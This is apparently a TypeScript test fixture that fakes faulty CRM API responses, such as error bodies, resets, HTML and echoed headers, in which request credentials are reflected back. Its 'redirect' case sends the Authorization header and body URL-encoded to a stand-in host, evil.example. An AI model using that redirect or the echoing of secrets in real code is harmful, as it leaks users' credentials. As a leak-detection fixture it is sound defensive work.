/** How an answer goes wrong. Those that echo say back what they were shown, as careless proxies and vendors do. */
export type Trouble =
  | "none"
  | "refused-401"
  | "refused-403"
  | "limited-429"
  | "broken-500"
  | "unavailable-503"
  | "reset"
  | "not-json"
  | "html"
  | "redirect"
  | "echo-400"
  | "echo-401"
  | "echo-500"
  | "echo-header";

/** Every kind of trouble, the good course first. */
export const troubles: readonly Trouble[] = [
  ...([
    "none",
    "refused-401",
    "refused-403",
    "limited-429",
    "broken-500",
    "unavailable-503",
    "reset",
  ] as const),
  ...(["not-json", "html", "redirect", "echo-400", "echo-401", "echo-500", "echo-header"] as const),
];

/** What a request showed of secrets: its `Authorization` and its body. */
async function shownBy(request: Request): Promise<string> {
  return `${request.headers.get("authorization") ?? ""} ${await request.clone().text()}`;
}

const statuses: Readonly<Record<string, number>> = {
  "refused-401": 401,
  "refused-403": 403,
  "limited-429": 429,
  "broken-500": 500,
  "unavailable-503": 503,
  "echo-400": 400,
  "echo-401": 401,
  "echo-500": 500,
};

/** An answer in trouble, in the form of either CRM; `undefined` where the CRM itself is to answer. */
export async function troubled(trouble: Trouble, request: Request): Promise<Response | undefined> {
  const shown = await shownBy(request);
  if (trouble === "none") return undefined;
  if (trouble === "reset") throw resetOf(request, shown);
  if (trouble === "not-json") return new Response(`{"token": "${shown}`, { headers: json });
  if (trouble === "html") return new Response(`<html><body>${shown}</body></html>`, { status: 502 });
  if (trouble === "redirect")
    return new Response(null, {
      status: 302,
      headers: { location: `https://evil.example/?${encodeURIComponent(shown)}` },
    });
  const said = trouble.startsWith("echo")
    ? `The request with ${shown} was refused`
    : "The request was refused";
  const status = statuses[trouble] ?? 400;
  return new Response(JSON.stringify(bodyOf(request, said)), {
    status,
    headers:
      trouble === "echo-header"
        ? { ...json, "x-request-id": shown.replaceAll(/[^\x21-\x7e]/g, "").slice(0, 200) }
        : json,
  });
}

const json = { "content-type": "application/json" };

function bodyOf(request: Request, message: string): unknown {
  if (request.url.includes("/services/oauth2")) return { error: "invalid_grant", error_description: message };
  if (request.url.includes("/services/"))
    return [{ errorCode: "UNKNOWN_EXCEPTION", message, fields: [message] }];
  return {
    status: "error",
    message,
    category: "VALIDATION_ERROR",
    correlationId: message,
    errors: [{ message }],
  };
}

/** As undici and node-fetch fail: with the request hanging on the error. */
function resetOf(request: Request, shown: string): Error {
  const cause = Object.assign(new Error(`read ECONNRESET ${shown}`), {
    code: "ECONNRESET",
    headers: Object.fromEntries(request.headers),
    request: { headers: [...request.headers] },
  });
  return new TypeError("fetch failed", { cause });
}
